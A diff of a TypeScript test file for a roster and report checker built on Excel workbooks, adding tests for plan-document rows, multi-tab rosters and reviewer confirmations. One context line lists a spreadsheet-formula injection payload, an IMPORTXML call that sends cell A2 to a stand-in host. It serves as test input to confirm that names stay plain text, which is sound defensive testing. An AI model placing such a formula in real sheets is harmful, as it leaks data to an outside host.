@@ -5,6 +5,7 @@ import path from 'node:path';
 import Excel from 'exceljs';
 import type { ApplicantReport, CheckReport } from '../../src/core/report/check-report';
 import type { CheckAnswer, CheckRequest, SheetReading } from '../../src/core/report/panel-api';
+import { formatReport } from '../../src/local/cli/text-report';
 import { writeXlsx } from '../../src/local/files/write-xlsx';
 import type { LocalHost } from '../../src/local/host';
 import { assessFile } from '../../src/local/roster/assess-file';
@@ -207,6 +208,45 @@ test('among several people one who gave no name is called by the address', async
   expect(personOf(report, 'cy@a.org')).toMatchObject({ applicant: 'cy@a.org', cycle: null });
 });
 
+test('plan papers are told of the set-up’s person alone', async () => {
+  const plan = [
+    ['Plan document Technology plan', 'FOUND: plan.docx', ''],
+    ['Plan section Mission Statement', 'MISSING: please check', ''],
+    ['Plan section Evaluation Method', 'CONFIRMED on 2026-11-01: page 9', ''],
+  ];
+  const host = await open(RESPONSES, [...SET_UP.slice(0, 4), ...plan, ...SET_UP.slice(4)]);
+  const report = check(host);
+  expect(makeRosterRows(report.applicants).map((row) => [row.key, row.plan])).toEqual([
+    ['bob@a.org', 'not checked here'],
+    ['ann@a.org', 'to do: Mission Statement'],
+    ['ann@b.org', 'not checked here'],
+    ['cy@a.org', 'not checked here'],
+  ]);
+});
+
+test('people in several tabs are in one roster, and the message names the tab', async () => {
+  const [headings = [], ...rows] = RESPONSES;
+  const of = (email: string) => [headings, ...rows.filter((row) => row[1] === email)];
+  const host = await openTestHost(
+    {
+      Ann: of('ann@a.org'),
+      Bob: of('bob@a.org'),
+      'AL-CTO Setup': [['Log sheets', 'Ann; Bob'], ...SET_UP],
+    },
+    { now: NOW },
+  );
+  expect(makeSheet(host)).toMatchObject({ ok: true });
+  const names = read(host, ROSTER_SHEET).rows.slice(3, 5);
+  expect(names.map(([name, district]) => [name, district])).toEqual([
+    ['Bob Ray', 'Dale'],
+    ['Ann Lee', 'Elmore'],
+  ]);
+  const report = check(host);
+  expect(makeMessage(report, personOf(report, 'ann@a.org'))).toContain(
+    '- “Ann”, row 4, Jan 8, 2026, Plan for the network (4 h)\n  No justification.',
+  );
+});
+
 test.each(['=IMPORTXML("https://x.test/?d="&A2,"//a")', '+1+1', '@x', 'Two\nlines\tand a tab'])(
   'the name %j stays a text in one line',
   async (name) => {
@@ -284,6 +324,9 @@ test('a decision of the reviewer and one of the applicant are told apart by name
     ['Fall conference', 7, 13, 'reviewer Jo J. Doe Ed.D.'],
     ['Winter conference', 6, 14, ''],
   ]);
+  expect(formatReport(report, { color: false })).toContain(
+    'Take that time out. Confirmed by reviewer Jo J. Doe Ed.D.',
+  );
   const [, ann] = makeRosterRows(report.applicants);
   expect(ann?.note).toContain('Confirmed by reviewer Jo J. Doe Ed.D.: row 13.');
 });
